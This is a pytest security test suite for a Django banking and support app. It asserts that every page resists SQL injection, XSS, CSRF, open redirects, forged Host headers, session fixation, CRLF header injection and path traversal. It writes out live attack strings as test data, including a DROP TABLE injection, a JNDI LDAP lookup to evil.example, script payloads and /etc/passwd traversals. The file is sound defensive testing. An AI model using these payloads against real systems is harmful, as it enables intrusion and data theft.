"""Attacks on every page, from the URL resolver: injection, scripts, forged forms, hosts and headers.

R8.2, R8.3, R9.6; issue 5. Elsewhere: the staff's filters (`test_staff_lists`), input that breaks programs
(`test_hard_input`), each peer's fault (`test_peer_faults_*`), links in mails and a forged Host
(`accounts/tests/test_password_reset.py`, `test_registration.py`, `test_email_change.py`), the page after signing in
and session fixation (`accounts/tests/test_sign_in.py`), the content policy (`test_security_headers`).
"""

import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from django.test import Client
from django.urls import reverse

from accounts import people
from accounts.models import BankAccount, User
from accounts.people import profile
from support import tickets
from support.models import RequestKind, ServiceRequest, Ticket
from support.requests import services as requests
from support.requests.kinds import PAGE_KINDS
from tests.access_walk import Hers, Page, made_up, pages, rows_about, staff_pages, text_of
from tests.acts import NEWCOMER, mails
from tests.asvs import proves
from tests.staff_acts import REASON, an_origin, fresh_code
from transfers.accounts import renaming
from transfers.models import Payee, TransferOrder
from transfers.orders import cash
from transfers.payees import services as payees

pytestmark = pytest.mark.django_db

# What a database reports when a person's text became a part of a statement.
SPEAKS_SQL = re.compile(
    r"sqlite|syntax error|OperationalError|DataError|ProgrammingError|Traceback|SELECT .* FROM", re.IGNORECASE
)
INJECTIONS = (
    "' OR '1'='1", "x' OR 1=1 --", '" OR ""="', "1) OR (1=1", "1 OR 1=1", "'; DROP TABLE accounts_user; --",
    "' UNION SELECT email, password FROM accounts_user --", "%' OR '%'='", "\\' OR 1=1 --", "${jndi:ldap://evil.example}",
)  # fmt: skip
# Shows whether anything of Charlie's, whom Alice attacks, was revealed.
HIS_WORD = "Oleander"


@pytest.fixture
def his(charlie: Any, bob: Any, open_account: Any) -> Any:
    """Charlie, with a word of his own in everything that he wrote."""
    account = open_account(charlie, "77.00")
    renaming.rename_account(actor=charlie, account=account, nickname=HIS_WORD)
    cash.deposit(
        actor=charlie, account=account, amount=account.balance, description=HIS_WORD, idempotency_key="a word of his"
    )
    tickets.open_ticket(actor=charlie, subject=HIS_WORD, text=HIS_WORD, idempotency_key="a word of his")
    return charlie


def address(page: Page, hers: Hers) -> str:
    return page.path(made_up() | hers.of_page.get(page.name, {}))


def walked() -> list[Page]:
    """Return all pages except those that end the visitor's session."""
    return [page for page in pages().values() if page.name != "sign_out"]


# --- SQL ----------------------------------------------------------------------------------------------------


def forms(browser: Client, hers: Hers) -> Iterator[tuple[str, dict[str, Any]]]:
    """Yield every page with a form that this person is shown, and the initial values of its fields."""
    for page in walked():
        paths = [address(page, hers)]
        if page.name == "request_new":
            paths = [f"{paths[0]}?kind={kind}" for kind in PAGE_KINDS]
        for path in paths:
            form = (browser.get(path).context or {}).get("form")
            if form is not None:
                yield path, {name: form[name].value() or "" for name in form.fields}


@proves("V1.2.4")
def test_injection_into_any_field_of_any_form_is_text(hers: Hers, his: Any, alice: Any, browser_of: Any) -> None:
    browser, was, sent = browser_of(alice), rows_about(his), 0
    found = [*forms(browser, hers), *forms(Client(), hers)]
    assert len(found) > 15
    for path, fields in found:
        for name in fields:
            for attack in INJECTIONS[:2]:
                known = {key: hers.fields.get(key, value) for key, value in fields.items()}
                for method in (browser.post, browser.get):
                    answer = method(path, known | {name: attack})
                    text, sent = text_of(answer), sent + 1
                    assert answer.status_code in (200, 302, 403, 404, 405, 429), (path, name, attack)
                    assert not SPEAKS_SQL.search(text), (path, name, attack)
                    assert HIS_WORD not in text, (path, name, attack)
    assert sent > 150
    assert rows_about(his) == was
    assert User.objects.count() >= 3


@proves("V1.2.4")
@pytest.mark.parametrize("name", ["account", "type", "date_from", "date_to", "min_amount", "max_amount", "text"])
def test_injection_into_a_filter_of_the_history_finds_nothing_more(
    name: str, hers: Hers, his: Any, alice: Any, browser_of: Any
) -> None:
    # A condition that is always true would show everything: more rows than a search without results.
    browser = browser_of(alice)
    everything = len(browser.get("/history/").context["entries"])
    assert everything > 1
    for attack in INJECTIONS:
        for more in ({}, {"older_than": attack}, {"newer_than": attack}):
            answer = browser.get("/history/", {name: attack} | more)
            assert answer.status_code == 200
            understood = answer.context["form"].is_valid()
            assert not understood or len(answer.context["entries"]) == 0, attack
            assert HIS_WORD not in text_of(answer)
        exported = browser.get("/history/movements.csv", {name: attack})
        assert exported.status_code == 302 or text_of(exported).count("\n") == 1, attack


@proves("V1.2.4")
def test_injection_into_what_an_address_carries_is_not_understood(
    hers: Hers, his: Any, alice: Any, browser_of: Any
) -> None:
    browser = browser_of(alice)
    for page in walked():
        for attack in INJECTIONS[:3]:
            answer = browser.get(address(page, hers), dict.fromkeys(hers.fields, attack))
            assert answer.status_code in (200, 302, 404, 405), (page.name, attack)
            text = text_of(answer)
            assert HIS_WORD not in text
            assert not SPEAKS_SQL.search(text), (page.name, attack)


# --- Scripts ------------------------------------------------------------------------------------------------

SCRIPT = "<img src=x onerror=alert(1)>"
BREAKS_OUT = "\"'></textarea><script>alert(1)</script>"
# As it must never be on a page: what a browser would run.
LIVE = re.compile(r"<img src=x|<script>alert|</textarea><script|\"'></", re.IGNORECASE)


def ask_for_name(alice: Any, first_name: str, last_name: str) -> Any:
    payload = {"first_name": first_name, "last_name": last_name, "address": f"{BREAKS_OUT} {first_name}"}
    return requests.file_request(actor=alice, kind=RequestKind.UPDATE_IDENTITY, payload=payload, reason=SCRIPT)


def write_scripts(alice: Any, sam: Any, ada: Any) -> None:
    """Write scripts into every text that a customer or a member of staff can write."""
    account = BankAccount.objects.get(owner=alice, nickname="Moonfund")
    asked = ServiceRequest.objects.get(customer=alice)
    requests.cancel_request(actor=alice, public_id=asked.public_id)
    named = ask_for_name(alice, SCRIPT, BREAKS_OUT)
    requests.approve_request(actor=sam, public_id=named.public_id, reason=f"{SCRIPT} {BREAKS_OUT}")
    profile.update_details(
        actor=alice, phone="+49 30 1", address=BREAKS_OUT, code=fresh_code(alice), origin=an_origin()
    )
    alice = User.objects.get(pk=alice.pk)
    renaming.rename_account(actor=alice, account=account, nickname=SCRIPT)
    payees.rename_payee(actor=alice, public_id=Payee.objects.get(customer=alice).public_id, label=SCRIPT)
    for number, text in enumerate((SCRIPT, BREAKS_OUT)):
        key = f"a script {number}"
        cash.deposit(actor=alice, account=account, amount=account.balance, description=text, idempotency_key=key)
    ticket = Ticket.objects.get(customer=alice)
    tickets.reply_to_ticket(actor=alice, public_id=ticket.public_id, text=f"{SCRIPT}\n\n{BREAKS_OUT}")
    other = tickets.open_ticket(actor=alice, subject=BREAKS_OUT, text=SCRIPT, idempotency_key="a script")
    again = ask_for_name(alice, BREAKS_OUT, SCRIPT)
    tickets.take_ticket(actor=sam, public_id=ticket.public_id)
    tickets.answer_ticket(actor=sam, public_id=ticket.public_id, text=f"{SCRIPT}\n{BREAKS_OUT}")
    tickets.note_on_ticket(actor=sam, public_id=other.public_id, text=SCRIPT)
    requests.reject_request(actor=sam, public_id=again.public_id, reason=f"{SCRIPT} {BREAKS_OUT}")
    bob = User.objects.get(email="bob@example.com")
    people.lock_user(origin=an_origin(), actor=ada, user=bob, reason=f"{REASON} {SCRIPT}", code=fresh_code(ada))


@proves("V1.1.2", "V1.2.1")
def test_no_script_that_anybody_wrote_is_live_on_any_page_or_in_any_mail(
    hers: Hers, alice: Any, sam: Any, ada: Any, audrey: Any, browser_of: Any
) -> None:
    write_scripts(alice, sam, ada)
    read, escaped = 0, 0
    customer = browser_of(User.objects.get(pk=alice.pk))
    walks = [(customer, address(page, hers)) for page in walked()]
    walks += [(customer, reverse("ticket", args=[row.public_id])) for row in Ticket.objects.filter(customer=alice)]
    walks += [(customer, reverse("receipt", args=[row.public_id])) for row in TransferOrder.objects.all()]
    for person in (sam, audrey, ada):
        browser = browser_of(person)
        walks += [(browser, path) for path in staff_pages()]
    for browser, path in walks:
        answer = browser.get(path)
        assert answer.status_code < 500, path
        if answer.headers.get("Content-Type", "").startswith("text/html"):
            text = text_of(answer)
            assert not LIVE.search(text), path
            read, escaped = read + 1, escaped + ("&lt;img src=x" in text)
    assert read > 150
    assert escaped > 40, "else they were not on the pages at all"
    sent = mails()
    assert len(sent) > 8
    assert not any(LIVE.search(mail.html_message) for mail in sent)
    assert sum("&lt;img src=x" in mail.html_message for mail in sent) > 3


@proves("V1.2.1")
def test_a_script_typed_into_a_form_comes_back_as_text(hers: Hers, alice: Any, browser_of: Any) -> None:
    # Reflected: by POST with errors, and by parameters of an address.
    for browser in (browser_of(alice), Client()):
        for path, fields in [*forms(browser, hers)]:
            for method in (browser.post, browser.get):
                text = text_of(method(path, dict.fromkeys(fields, BREAKS_OUT)))
                assert not LIVE.search(text), path
        for page in walked():
            query = dict.fromkeys([*hers.fields, BREAKS_OUT], BREAKS_OUT)
            assert not LIVE.search(text_of(browser.get(address(page, hers), query))), page.name


@proves("V1.2.1")
def test_a_script_in_a_name_at_registration_is_text_in_the_mail(client: Client) -> None:
    client.post("/register/", NEWCOMER | {"first_name": SCRIPT, "last_name": BREAKS_OUT})
    [mail] = mails(NEWCOMER["email"])
    assert not LIVE.search(mail.html_message)
    assert "\n" not in mail.subject


# --- Forged forms -------------------------------------------------------------------------------------------


# Nothing is there; and browsers report what the policy stopped without one: a log line comes of it, nothing else.
WITHOUT_A_TOKEN = ("api_nowhere", "csp_reports")


@proves("V3.5.1")
@pytest.mark.parametrize("origin", [{}, {"Origin": "https://evil.example"}, {"Origin": "null"}])
def test_no_address_takes_a_form_without_a_token(
    origin: dict[str, str], hers: Hers, alice: Any, ada: Any, browser_of: Any
) -> None:
    # R8.2: the staff's area included; what is refused says so in words, and does nothing.
    browsers = {person: browser_of(person) for person in (alice, ada)}
    was, sent = rows_about(alice), 0
    for person, paths in (
        (alice, [address(page, hers) for page in pages().values() if page.name not in WITHOUT_A_TOKEN]),
        (ada, [*staff_pages(), "/admin/logout/", "/admin/login/", "/admin/password_change/"]),
    ):
        browser = Client(enforce_csrf_checks=True)
        browser.cookies = browsers[person].cookies
        for path in paths:
            answer = browser.post(path, {"amount": "1", "code": "123456"}, headers=origin)
            sent += 1
            assert answer.status_code == 403, path
            # Under /api/ the clients are programs.
            said = "This request cannot be read" if path.startswith("/api/") else "We could not accept that"
            assert said in text_of(answer), path
            assert "Send it again" not in text_of(answer), path
    assert sent > 100
    now = rows_about(alice)
    assert {key: now.get(key) for key in was} == was


# --- Where one is sent --------------------------------------------------------------------------------------


@proves("V3.7.2", "V3.7.3")
@pytest.mark.parametrize("target", ["https://evil.example/", "/\\evil.example/"])
def test_no_page_sends_anybody_to_another_site(target: str, hers: Hers, alice: Any, ada: Any, browser_of: Any) -> None:
    # More targets, at the one page that has a `next`: `test_sign_in`.
    names = ("next", "return", "return_to", "url", "redirect", "redirect_to", "continue", "from", "back", "u")
    query = dict.fromkeys(names, target)
    for browser in (Client(), browser_of(alice), browser_of(ada)):
        for page in walked():
            path = address(page, hers)
            answers = [browser.get(path, query), browser.post(path, query, headers={"Referer": target})]
            answers += [browser.post(path, headers={"Referer": f"http://testserver{target}"})]
            for answer in answers:
                to = answer.headers.get("Location", "")
                assert urlsplit(to)[:2] == ("", ""), (path, to)
                assert not to.startswith(("//", "/\\")), (path, to)


@proves("V4.1.3")
@pytest.mark.parametrize(
    "headers",
    [
        {"X-Forwarded-Host": "evil.example"},
        {"X-Forwarded-Server": "evil.example", "X-Host": "evil.example", "Forwarded": "host=evil.example"},
        {"X-Original-URL": "/admin/", "X-Rewrite-URL": "/admin/"},
        {"X-HTTP-Method-Override": "DELETE", "X-Method-Override": "POST"},
    ],
)
def test_headers_that_name_another_host_path_or_method_change_no_page(
    headers: dict[str, str], hers: Hers, alice: Any, browser_of: Any
) -> None:
    browser, title = browser_of(alice), re.compile("<title>.*</title>")
    for page in walked():
        path = address(page, hers)
        plain, forged = browser.get(path), browser.get(path, headers=headers)
        assert plain.status_code == forged.status_code, path
        assert "evil.example" not in text_of(forged) + str(forged.headers), path
        if plain.headers.get("Content-Type", "").startswith("text/html"):
            assert title.findall(plain.content.decode()) == title.findall(forged.content.decode()), path


@proves("V4.1.3")
def test_a_forged_host_is_refused_on_every_page(hers: Hers, alice: Any, browser_of: Any) -> None:
    browser = browser_of(alice)
    for page in walked():
        for method in (browser.get, browser.post):
            answer = method(address(page, hers), headers={"Host": "testserver.evil.example"})
            assert answer.status_code == 400, page.name
            assert "evil.example" not in text_of(answer)


@proves("V7.2.4")
def test_a_session_that_the_attacker_chose_is_not_the_one_that_signs_in(alice: Any, code_of: Any) -> None:
    # Fixation, with an id that was never given out and with one that was.
    visitor = Client()
    visitor.get("/sign-in/")
    for planted in ("a" * 32, "attacker", visitor.session.session_key or "x" * 32):
        browser = Client()
        browser.cookies["sessionid"] = planted
        browser.post("/sign-in/", {"email": alice.email, "password": "correct horse battery staple"})
        assert browser.cookies["sessionid"].value != planted
        thief = Client()
        thief.cookies["sessionid"] = planted
        assert thief.get("/sign-in/code/")["Location"] == "/sign-in/"


# --- Headers of every answer ----------------------------------------------------------------------------------


@proves("V3.4.4", "V3.4.6", "V14.2.5", "V14.3.2")
def test_no_answer_can_be_framed_or_kept(hers: Hers, alice: Any, ada: Any, browser_of: Any) -> None:
    # R8.2: on every page, for everybody, by GET and POST; downloads and refusals included.
    for browser in (Client(), browser_of(alice), browser_of(ada)):
        for path in [*(address(page, hers) for page in walked()), "/nowhere/", "/admin/", "/admin/accounts/user/"]:
            for method in (browser.get, browser.post):
                answer = method(path)
                assert answer["X-Frame-Options"] == "DENY", path
                assert "frame-ancestors 'none'" in answer["Content-Security-Policy"], path
                assert answer["X-Content-Type-Options"] == "nosniff", path
                assert "no-store" in answer["Cache-Control"], path
                assert "public" not in answer["Cache-Control"], path


CRLF = (
    "\r\nSet-Cookie: a=b",
    "\nX-Forged: 1",
    "\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie:%20a=b",
    "\u2028x",
)


@proves("V1.2.1")
def test_a_line_break_typed_anywhere_starts_no_header(hers: Hers, alice: Any, browser_of: Any) -> None:
    typed = dict.fromkeys(hers.fields, "/" + "".join(CRLF))
    for browser in (browser_of(alice), Client()):
        for page in walked():
            for method in (browser.get, browser.post):
                answer = method(address(page, hers), typed)
                assert answer.status_code < 500, page.name
                assert "a" not in answer.cookies
                assert "X-Forged" not in answer.headers
                assert not any("\n" in value or "\r" in value for value in answer.headers.values())


@proves("V1.3.11")
def test_a_line_break_typed_into_a_subject_or_name_starts_no_header_of_a_mail(
    hers: Hers, alice: Any, browser_of: Any
) -> None:
    browser = browser_of(alice)
    for number, attack in enumerate(CRLF):
        fields = {"subject": f"Hello{attack}\nBcc: evil@example.com", "text": "x", "reference": ""}
        fields["key"] = f"5b1f0f0e-0000-4000-8000-00000000000{number}"
        browser.post("/help/messages/new/", fields)
        Client().post("/register/", NEWCOMER | {"first_name": f"Nora{attack}\nBcc: evil@example.com"})
        for email in (f"nora@example.com{attack}", f"nora@example.com{attack}\nBcc: evil@example.com"):
            Client().post("/register/", NEWCOMER | {"email": email})
            Client().post("/password/forgot/", {"email": email})
    for mail in mails():
        assert "\n" not in mail.subject
        assert "\r" not in mail.subject
        assert "evil@example.com" not in [*mail.to, *mail.cc, *mail.bcc]
        assert not mail.headers or "Bcc" not in mail.headers


SAFE_FILENAME = re.compile(r'(attachment|inline); filename="[A-Za-z0-9][A-Za-z0-9._-]*\.(csv|pdf)"')


@proves("V3.2.1", "V5.4.1", "V5.4.2")
def test_names_of_downloads_have_no_path_and_no_text_of_anybodys(hers: Hers, alice: Any, browser_of: Any) -> None:
    account = BankAccount.objects.get(owner=alice, nickname="Moonfund")
    renaming.rename_account(actor=alice, account=account, nickname='../../x"; filename="evil.exe')
    browser, seen = browser_of(alice), 0
    for page in walked():
        for form in ("csv", "pdf"):
            query = {"format": form, "filename": "../../etc/passwd", "name": "../../etc/passwd"}
            header = browser.get(address(page, hers), query).headers.get("Content-Disposition")
            if header is not None:
                seen += 1
                assert SAFE_FILENAME.fullmatch(header), (page.name, header)
    assert seen >= 3


@proves("V1.1.1", "V5.3.2", "V13.4.3")
@pytest.mark.parametrize("trick", ["../../../etc/passwd", "..%2f..%2fmanage.py", "....//manage.py", "%00", "x" * 5000])
def test_tricks_with_paths_are_not_found(trick: str, hers: Hers, alice: Any, browser_of: Any) -> None:
    browser = browser_of(alice)
    for prefix in (
        "/",
        "/static/",
        "/history/",
        "/receipts/",
        "/accounts/",
        "/help/messages/",
        "/demo/mailbox/",
        "/admin/",
    ):
        for path in (prefix + trick, prefix + quote(trick, safe=""), f"{prefix}{trick}/"):
            answer = browser.get(path)
            assert answer.status_code in (403, 404), path
            assert "root:" not in text_of(answer)
            assert "DJANGO_SETTINGS_MODULE" not in text_of(answer)
    for page in walked():
        for name, kind in page.arguments:
            if kind == "StringConverter" and "/" not in trick:
                path = reverse(page.name, kwargs={name: trick})
                assert browser.get(path).status_code == 404, path
